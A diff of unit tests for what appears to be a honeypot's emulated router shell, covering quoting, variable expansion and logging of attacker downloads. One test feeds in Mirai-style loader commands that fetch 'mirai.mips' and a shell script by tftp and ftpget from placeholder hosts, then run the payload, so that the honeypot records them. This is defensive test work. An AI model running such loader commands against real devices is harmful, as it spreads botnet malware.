@@ -57,7 +57,7 @@ test_parse_quotes(void **state)
 	assert_int_equal(l->ncmds, 1);
 	assert_int_equal(l->cmds[0].argc, 5);
 	assert_string_equal(l->cmds[0].argv[1], "a b");
-	assert_string_equal(l->cmds[0].argv[2], "c\"d $x");
+	assert_string_equal(l->cmds[0].argv[2], "c\"d \001qx\002");	/* marked for the shell */
 	assert_string_equal(l->cmds[0].argv[3], "e f");
 	assert_string_equal(l->cmds[0].argv[4], "");
 	assert_null(l->cmds[0].argv[5]);
@@ -276,6 +276,9 @@ test_shell_mirai_loader(void **state)
 	run("/bin/busybox tftp -g -l dvrHelper -r mirai.mips 192.0.2.8");
 	assert_non_null(p = strstr(rec.fields[rec.n - 1], "tftp://192.0.2.8"));
 	assert_non_null(strstr(p, "mirai.mips"));
+	assert_non_null(strstr(rec.fields[rec.n - 1], "\"host\":\"192.0.2.8\",\"file\":\"mirai.mips\""));
+	run("ftpget -u a -p b -P 2121 192.0.2.9 local.sh bins/x.sh");
+	assert_non_null(strstr(rec.fields[rec.n - 1], "\"host\":\"192.0.2.9:2121\",\"file\":\"bins/x.sh\""));
 	o = run("./dvrHelper telnet.arm7; /bin/busybox IHCCE");
 	assert_string_equal(o, "IHCCE: applet not found\nroot@router:/var# ");
 	assert_null(memmem(rec.out.data, rec.out.len, "ncorrect", 8));
@@ -328,6 +331,16 @@ test_shell_applets(void **state)
 	assert_string_equal(run("echo x > x; mkdir /y || echo no"),
 	    "-sh: can't create x: Read-only file system\nmkdir: can't create directory '/y': "
 	    "Read-only file system\nno\nroot@router:~# ");
+	assert_string_equal(run("ls /nope 2>/dev/null; echo $?; echo $?"), "1\n0\nroot@router:~# ");
+	assert_string_equal(run("X=hello; echo $X \"$X\" '$X' ${X}!"),
+	    "hello hello $X hello!\nroot@router:~# ");
+	assert_string_equal(run("echo $UNSET a; echo \"$UNSET\" b; echo $ $1x"),
+	    "a\n b\n$ x\nroot@router:~# ");
+	assert_string_equal(run("export P=/tmp; cd $P && pwd; echo $HOME $USER $PWD; cd"),
+	    "/tmp\n/root root /tmp\nroot@router:~# ");
+	/* a prefix assignment is only for its command (expanded before it): A stays unset */
+	assert_string_equal(run("A=1 echo $A; echo x > $HOME/../tmp/v$A; cat /tmp/v"),
+	    "\nx\nroot@router:~# ");
 	assert_string_equal(run("ls /nope 2>/dev/null; ls /nope"),
 	    "ls: /nope: No such file or directory\nroot@router:~# ");
 	o = run("busybox --list");
